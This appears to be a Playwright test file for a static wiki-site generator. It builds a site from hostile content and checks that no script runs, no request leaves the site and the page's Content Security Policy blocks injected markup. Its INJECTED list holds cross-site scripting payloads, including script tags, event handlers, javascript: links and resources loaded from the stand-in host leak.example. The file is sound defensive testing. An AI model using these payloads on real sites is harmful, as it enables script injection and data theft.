import {
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import { type FolderServer, serveFolder } from '../../scripts/io/serve-folder.ts';
import { writeHostileWiki } from '../hostile/drawer.ts';
import { look } from '../hostile/look.ts';
import { markupOf, unsafeAddresses } from '../hostile/markup.ts';
import { type Ran, runCommand } from './helpers/commands.ts';
import { siteFiles, siteFolder } from './helpers/sites.ts';

test.describe.configure({ mode: 'serial' });
test.setTimeout(240_000);

let folder: string;
let wiki: string;
let site: string;
let built: Ran;
let server: FolderServer;

test.beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'stemma-hostile-'));
  wiki = join(folder, 'wiki');
  site = join(folder, 'site');
  expect(writeHostileWiki(wiki)).toBeGreaterThan(200);
  built = await runCommand('build', ['--content', wiki, '--out', site], {
    STEMMA_CACHE: join(folder, 'cache'),
  });
  server = await serveFolder(site);
});
test.afterAll(async () => {
  await server.close();
  rmSync(folder, { recursive: true, force: true });
});

const files = (ending: string): string[] =>
  readdirSync(site, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith(ending))
    .sort();
const read = (file: string): string => readFileSync(join(site, file), 'utf8');
const addressOf = (file: string): string =>
  server.url + file.split('/').map(encodeURIComponent).join('/');

/** Notes whatever a page does that no page may do. */
function watch(page: Page, wrong: string[]): void {
  const tell = (what: string) => wrong.push(`${page.url()}: ${what}`);
  page.on('dialog', (dialog) => {
    tell(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    const inside = url.startsWith(server.url) || url.startsWith(pathToFileURL(site).href);
    if (!inside && !/^(?:data|blob):/.test(url)) tell(`a request leaves: ${url}`);
  });
  page.on('popup', () => tell('a window opens'));
  page.on('download', () => tell('a download begins'));
  page.on('pageerror', (error) => tell(`an error: ${error.message}`));
}

test('a build of hostile files tells what it could not read, and speaks to no terminal', () => {
  expect(built.code).toBe(1);
  const shown = built.stdout + built.stderr;
  expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  const told = /^(?:error|warning): .+? \[[a-z0-9-]+\]$/;
  const own =
    /^(?:\d+ errors?, \d+ warnings?|Done in .+|\d+ entries and \d+ pages in .+|[A-Z][a-z ]+: \d+ of \d+|[A-Z][a-z ]+ …|)$/;
  expect(shown.split('\n').filter((line) => !told.test(line) && !own.test(line))).toEqual([]);
  expect(shown).not.toContain('unexpected-failure');
});

test('nothing is written but what a build writes', () => {
  expect(existsSync(join(tmpdir(), 'ran'))).toBe(false);
  expect(readdirSync(wiki).sort()).toEqual([
    'entries',
    'ids.jsonl',
    'pages',
    'sources',
    'venues.yaml',
    'wiki.yaml',
  ]);
  expect(readdirSync(folder).sort()).toEqual(['cache', 'site', 'wiki']);
  for (const file of files(''))
    expect(Buffer.byteLength(file.split('/').pop() ?? '')).toBeLessThan(256);
});

test('no page holds an element, attribute or address that pages of a peaceful wiki do not hold', () => {
  const known = new Set<string>();
  for (const name of ['small', 'example'] as const) {
    for (const file of siteFiles(name, '.html')) {
      for (const kind of markupOf(readFileSync(join(siteFolder(name), file), 'utf8')).kinds)
        known.add(kind);
    }
  }
  // Of a text with a rule, a table with aligned columns, code in a language, deeper headings; of a wiki with an address.
  const more = [
    'hr',
    'td[align]',
    'th[align]',
    'code[class]',
    'h4',
    'h4[id]',
    'h5',
    'h5[id]',
    'h6',
    'h6[id]',
    'a[data-host]',
    'ol[start]',
    'li[id]',
    'meta[property]',
    'del',
    'pre',
    'img[loading]',
    'link[href]',
  ];
  for (const kind of more) known.add(kind);
  const wrong = files('.html').flatMap((file) => {
    const markup = markupOf(read(file));
    const strange = [...markup.kinds].filter(
      (kind) => !known.has(kind) && !kind.startsWith('MathML:'),
    );
    return [...strange, ...unsafeAddresses(markup)].map((what) => `${file}: ${what}`);
  });
  expect(wrong).toEqual([]);
});

test('walked page by page in a browser, no script runs, nothing leaves, and the frame stands as it should', async ({
  browser,
}) => {
  const pages = files('.html').filter((file) => !/^(?:id|tags|timeline|venues)\/.|^404/.test(file));
  expect(pages.length).toBeGreaterThan(250);
  const wrong: string[] = [];
  const frames = new Set<string>();
  const boxes = new Set<string>();
  const queue = [...pages];
  const walker = async (): Promise<void> => {
    const context = await browser.newContext({
      viewport: { width: 1100, height: 800 },
      serviceWorkers: 'block',
    });
    const page = await context.newPage();
    watch(page, wrong);
    for (let file = queue.shift(); file !== undefined; file = queue.shift()) {
      await page.goto(addressOf(file), { waitUntil: 'domcontentloaded' });
      const looked = await page.evaluate(look);
      wrong.push(...looked.wrong.map((what) => `${file}: ${what}`));
      if (looked.overflow > 0) wrong.push(`${file}: ${looked.overflow} pixels too wide`);
      frames.add(looked.frame.replace(/\[data-state=\w*\]/g, ''));
      boxes.add(looked.boxes);
    }
    await context.close();
  };
  await Promise.all([walker(), walker()]);
  expect(wrong).toEqual([]);
  expect([...frames]).toHaveLength(1);
  expect([...boxes]).toHaveLength(1);
});

test('on a narrow screen and from disk, the worst of them stand as well', async ({ browser }) => {
  const context = await browser.newContext({ viewport: { width: 360, height: 700 } });
  const page = await context.newPage();
  const wrong: string[] = [];
  watch(page, wrong);
  const largest = files('.html')
    .filter((file) => file.startsWith('resources/'))
    .sort((a, b) => read(b).length - read(a).length)
    .slice(0, 25);
  for (const file of [
    ...largest,
    'index.html',
    'tags/index.html',
    'resources/index.html',
    'graph.html',
  ]) {
    await page.goto(pathToFileURL(join(site, file)).href);
    const looked = await page.evaluate(look);
    wrong.push(...looked.wrong.map((what) => `${file}: ${what}`));
    if (looked.overflow > 0) wrong.push(`${file}: ${looked.overflow} pixels too wide`);
  }
  await context.close();
  expect(wrong).toEqual([]);
});

test('feeds, records and lists for machines are whole, and hold no character that acts', async ({
  page,
}) => {
  await page.goto(server.url);
  const markup = [...files('.xml'), ...files('.rdf'), ...files('.svg')];
  const faults = await page.evaluate(
    (texts) =>
      texts.map((text) => {
        const parsed = new DOMParser().parseFromString(text, 'application/xml');
        return parsed.querySelector('parsererror')?.textContent ?? '';
      }),
    markup.map(read),
  );
  expect(markup.filter((_, index) => faults[index] !== '')).toEqual([]);
  for (const file of files('.json')) JSON.parse(read(file));
  const { count } = JSON.parse(read('resources.json')) as { count?: number };
  const records = JSON.parse(read('references.json')) as unknown[];
  expect(records.length).toBeGreaterThan(150);
  if (count !== undefined) expect(count).toBeGreaterThanOrEqual(records.length);
  const ris = read('references.ris');
  expect(ris.match(/^TY {2}- /gm)).toHaveLength(records.length);
  expect(ris.match(/^ER {2}-/gm)).toHaveLength(records.length);
  for (const line of ris.split(/\r?\n/)) expect(line).toMatch(/^$|^[A-Z][A-Z0-9] {2}-/);
  expect(read('references.bib').match(/^@/gm)).toHaveLength(records.length);
  for (const file of ['references.ris', 'references.bib', 'llms.txt', 'feed.xml'])
    expect(read(file)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
});

/** What an attacker who got past the first wall would write into a page. */
const INJECTED = [
  '<script>window.ran=1</script>',
  '<script src="https://leak.example/x.js"></script>',
  '<script src="data:text/javascript,window.ran=1"></script>',
  '<script type="module">window.ran=1</script>',
  '<img src=x onerror="window.ran=1">',
  '<img src="https://leak.example/i.png">',
  '<svg onload="window.ran=1"><script>window.ran=1</script></svg>',
  '<body onload="window.ran=1">',
  '<iframe src="https://leak.example/f.html"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="https://leak.example/o.html"></object><embed src="https://leak.example/e.html">',
  '<style>body{visibility:hidden;background:url(https://leak.example/s.png)}</style>',
  '<p id="styled" style="position:fixed;inset:0">x</p>',
  '<link rel="stylesheet" href="https://leak.example/c.css"><link rel="icon" href="https://leak.example/i.ico">',
  '<base href="https://leak.example/">',
  '<video autoplay src="https://leak.example/v.mp4"></video><audio autoplay src="https://leak.example/a.mp3"></audio>',
  '<details open ontoggle="window.ran=1"><summary>x</summary></details>',
  '<a id="click" href="javascript:window.ran=1">x</a>',
  '<form id="form" action="https://leak.example/f"><input name=q></form>',
];

async function attack(
  context: BrowserContext,
  address: string,
): Promise<{ wrong: string[]; refused: number }> {
  const page = await context.newPage();
  const wrong: string[] = [];
  let refused = 0;
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) refused += 1;
  });
  page.on('dialog', () => wrong.push('a dialog'));
  page.on('response', (response) => {
    if (response.url().includes('leak.example')) wrong.push(`an answer from ${response.url()}`);
  });
  // Nobody is at that address, so an answer means that the request was let go.
  await context.route(/leak\.example/, (route) => route.fulfill({ body: 'window.ran=1' }));
  await page.goto(address);
  await page.evaluate(() => document.getElementById('click')?.click());
  await page.evaluate(() =>
    (document.getElementById('form') as HTMLFormElement | null)?.requestSubmit(),
  );
  await page.waitForTimeout(100);
  if (await page.evaluate(() => 'ran' in window)) wrong.push('a script ran');
  const styled = await page.evaluate(() => {
    const element = document.getElementById('styled');
    return element !== null && getComputedStyle(element).position === 'fixed';
  });
  if (styled) wrong.push('a style held');
  if (await page.evaluate(() => getComputedStyle(document.body).visibility === 'hidden'))
    wrong.push('a style sheet held');
  if (await page.evaluate(() => document.baseURI.includes('leak'))) wrong.push('a base held');
  if (!page.url().startsWith(address)) wrong.push(`the page left for ${page.url()}`);
  await page.close();
  return { wrong, refused };
}

test('were all of it let through, the policy of the page would still stop it, on a server and from disk', async ({
  browser,
}) => {
  const broken = join(folder, 'broken');
  const page = files('.html').find(
    (file) => file.startsWith('resources/') && !file.includes('index'),
  ) as string;
  for (const name of ['assets', 'previews', 'favicon.svg'])
    cpSync(join(site, name), join(broken, name), { recursive: true });
  const pages = [page, 'search.html', 'graph.html', 'index.html'];
  for (const file of pages) {
    const html = read(file).replace('</main>', `${INJECTED.join('\n')}</main>`);
    cpSync(join(site, file), join(broken, file));
    writeFileSync(join(broken, file), html);
  }
  const other = await serveFolder(broken);
  const context = await browser.newContext({ serviceWorkers: 'block' });
  try {
    for (const file of pages) {
      for (const address of [other.url + file, pathToFileURL(join(broken, file)).href]) {
        const { wrong, refused } = await attack(context, address);
        expect(wrong, address).toEqual([]);
        expect(refused, address).toBeGreaterThan(10);
      }
    }
  } finally {
    await context.close();
    await other.close();
  }
});
